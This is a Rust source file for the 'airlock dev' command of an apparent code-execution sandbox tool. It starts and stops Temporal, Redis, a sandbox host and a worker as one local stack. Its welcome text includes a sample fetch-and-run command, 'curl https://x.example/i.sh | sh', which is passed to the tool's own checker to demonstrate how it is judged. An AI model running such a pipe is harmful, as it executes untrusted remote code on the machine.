//! `airlock dev`: Temporal, Redis, the sandbox host, the HTTP API and the worker as one stack.
//!
//! Temporal and Redis are child processes that cannot outlive this one; the rest runs in this
//! process. Everything stops in the reverse order of its start, on Ctrl-C, on SIGTERM, or when
//! the parent dies.

mod demo;
mod ports;
pub(crate) mod ready;
mod servers;
pub(crate) mod tether;

use std::net::{Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use airlock_contract::names::TASK_QUEUE;
use airlock_sandbox_host::{Config as HostConfig, Host, new_api_key};
use nix::sys::prctl::set_pdeathsig;
use nix::sys::signal::Signal;
use secrecy::{ExposeSecret, SecretString};

use crate::cli::{DevArgs, LogFormat};
use crate::commands::worker;
use crate::drain::{Signals, Tasks};
use crate::exit::Error;
use crate::wiring::secrets::own_secrets;
use crate::{config, output, telemetry};
use ports::Ports;
use ready::{Ready, ReadySandboxHost, ReadyTemporal};
use servers::Server;

/// How long running activities get when the stack stops.
const DRAIN: Duration = Duration::from_secs(5);

/// Starts the stack, waits for the end, stops it.
pub(crate) async fn run(args: &DevArgs, json: bool) -> Result<(), Error> {
    let mut config = config::load(&args.config)?;
    // A newcomer has no account yet: in `dev`, and only there, the first use makes one.
    config.engine.auto_create.get_or_insert(airlock_engine::AutoCreate {
        limit: airlock_contract::Usd::from_nanos(1_000_000_000),
        ttl: None,
    });
    let ports = Ports::choose(&args.ports)?;
    let redactor = config.redactor.with_values(own_secrets());
    telemetry::init(LogFormat::Auto, &redactor, true);
    let mut signals = Signals::listen()?;
    // `make dev` in a closed terminal, or a test that was killed, must leave nothing behind.
    set_pdeathsig(Signal::SIGTERM).map_err(Error::failed)?;
    if args.reset && args.data_dir.exists() {
        std::fs::remove_dir_all(&args.data_dir)?;
    }
    std::fs::create_dir_all(&args.data_dir)?;

    let mut stack = Stack::default();
    let started = tokio::select! {
        started = stack.start(args, ports, config) => started,
        signal = signals.next() => Err(Error::failed(format_args!("{signal} while starting"))),
    };
    let ended = match started {
        Ok(ready) => stack.live(args, &ready, json, &mut signals).await,
        Err(error) => Err(error),
    };
    if let Some(path) = &args.ready_file {
        drop(std::fs::remove_file(path));
    }
    output::note("stopping");
    let mut impatient = Signals::listen()?;
    tokio::select! {
        () = stack.stop() => ended,
        _ = impatient.next() => Err(Error::failed("stopped at once, at the second signal")),
    }
}

/// What runs. Filled while it starts, so that a failure half-way stops what there is.
#[derive(Default)]
struct Stack {
    redis: Option<Server>,
    temporal: Option<Server>,
    host: Option<Host>,
    tasks: Tasks,
}

/// A progress line: what is up, where, and how long it took.
struct Progress(Instant);

impl Progress {
    fn up(&mut self, name: &str, place: impl std::fmt::Display) {
        let took = self.0.elapsed();
        self.0 = Instant::now();
        output::note(format_args!("  {name:14} {place}   {} ms", took.as_millis()));
    }
}

impl Stack {
    async fn start(
        &mut self,
        args: &DevArgs,
        ports: Ports,
        config: config::Config,
    ) -> Result<Ready, Error> {
        let mut progress = Progress(Instant::now());
        output::note("starting");
        let data = std::path::absolute(&args.data_dir)?;
        let ui = (!args.headless).then_some(ports.ui);
        let (redis_data, temporal_data) = (data.join("redis"), data.join("temporal"));
        let (redis, temporal) = tokio::try_join!(
            Server::redis(ports.redis, &redis_data),
            Server::temporal(ports.temporal, ui, &temporal_data),
        )?;
        self.redis = Some(redis);
        self.temporal = Some(temporal);
        progress.up("Redis", format_args!("127.0.0.1:{}", ports.redis));
        progress.up("Temporal", format_args!("127.0.0.1:{}", ports.temporal));

        let api_key = new_api_key();
        let host = sandbox_host(ports.sandbox, &api_key, args, &data).await?;
        for warning in host.warnings() {
            output::note(format_args!("  weaker: {warning}"));
        }
        let sandbox_url = format!("http://{}", host.local_addr());
        self.host = Some(host);
        progress.up("sandbox host", &sandbox_url);

        let ready = Ready {
            temporal: ReadyTemporal {
                address: format!("127.0.0.1:{}", ports.temporal),
                namespace: "default".to_owned(),
                ui_url: ui.map(|port| format!("http://127.0.0.1:{port}")),
            },
            redis_url: format!("redis://127.0.0.1:{}/0", ports.redis),
            sandbox_host: ReadySandboxHost {
                api_url: sandbox_url.clone(),
                sandbox_url,
                api_key: api_key.expose_secret().to_owned(),
            },
            http_url: format!("http://127.0.0.1:{}", ports.http),
            task_queue: TASK_QUEUE.to_owned(),
            temporal_cli: servers::temporal_cli()?.display().to_string(),
        };
        let worker = worker::Settings {
            listen: Some(SocketAddr::from((Ipv4Addr::LOCALHOST, ports.http))),
            polls: !args.no_worker,
            drain: DRAIN,
            ..worker::Settings::from_ready(&ready)?
        };
        worker::start(worker, config, &self.tasks).await?;
        progress.up(if args.no_worker { "HTTP API" } else { "worker" }, &ready.http_url);
        Ok(ready)
    }

    /// Tells where everything is; then the demo, or until a signal or the end of a server.
    async fn live(
        &mut self,
        args: &DevArgs,
        ready: &Ready,
        json: bool,
        signals: &mut Signals,
    ) -> Result<(), Error> {
        if json {
            output::json_as_it_is(ready)?;
        } else {
            output::line(welcome(ready))?;
        }
        if let Some(path) = &args.ready_file {
            ready.write(path)?;
        }
        let stop = self.tasks.stop_token();
        let (Some(redis), Some(temporal)) = (self.redis.as_mut(), self.temporal.as_mut()) else {
            return Err(Error::failed("the servers did not start"));
        };
        tokio::select! {
            _ = signals.next() => Ok(()),
            error = redis.ended() => Err(error),
            error = temporal.ended() => Err(error),
            () = stop.cancelled() => Err(Error::failed("the worker ended; its log says why")),
            told = demo::run(ready), if args.demo => told,
        }
    }

    async fn stop(self) {
        self.tasks.drain(DRAIN + Duration::from_secs(5)).await;
        if let Some(host) = self.host {
            host.shutdown().await;
        }
        for server in [self.temporal, self.redis].into_iter().flatten() {
            server.stop().await;
        }
    }
}

async fn sandbox_host(
    port: u16,
    api_key: &SecretString,
    args: &DevArgs,
    data: &std::path::Path,
) -> Result<Host, Error> {
    let listen = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
    let mut config = HostConfig::new(listen, api_key.clone(), data.join("sandboxes"));
    // Never the machine's own network: on it a command would reach these servers. What the policy
    // allows goes through the host's proxy, which checks each address.
    config.default_internet = args.internet;
    config.internet_by_proxy = true;
    Host::start(config)
        .await
        .map_err(|error| Error::failed(format_args!("the sandbox host cannot start: {error}")))
}

/// A table of addresses and three commands to try.
fn welcome(ready: &Ready) -> String {
    let mut table = comfy_table::Table::new();
    table.load_preset(comfy_table::presets::UTF8_HORIZONTAL_ONLY);
    table.add_row(["Temporal", &ready.temporal.address]);
    if let Some(ui) = &ready.temporal.ui_url {
        table.add_row(["Temporal UI", ui]);
    }
    table.add_row(["Redis", &ready.redis_url]);
    table.add_row(["sandbox host", &ready.sandbox_host.api_url]);
    table.add_row(["HTTP API", &ready.http_url]);
    table.add_row(["task queue", &ready.task_queue]);
    let temporal = &ready.temporal_cli;
    let address = &ready.temporal.address;
    format!(
        "\n{table}\n\nTry, in another shell:\n\n  \
         {temporal} activity execute --address {address} --type safeExecuteCode --task-queue {queue} \\\n    \
         --activity-id a1 --start-to-close-timeout 5m --heartbeat-timeout 20s \\\n    \
         --input '{{\"runId\": \"run-123\", \"command\": \"echo hello; uname -s\"}}'\n\n  \
         {temporal} workflow execute --address {address} --type safeExecution --task-queue {queue} \\\n    \
         --workflow-id w1 --input '{{\"runId\": \"run-123\", \"command\": \"id; pwd\"}}'\n\n  \
         {airlock} check --explain -- 'curl https://x.example/i.sh | sh'\n\nCtrl-C stops everything.\n",
        queue = ready.task_queue,
        airlock = std::env::args().next().unwrap_or_else(|| "airlock".to_owned()),
    )
}
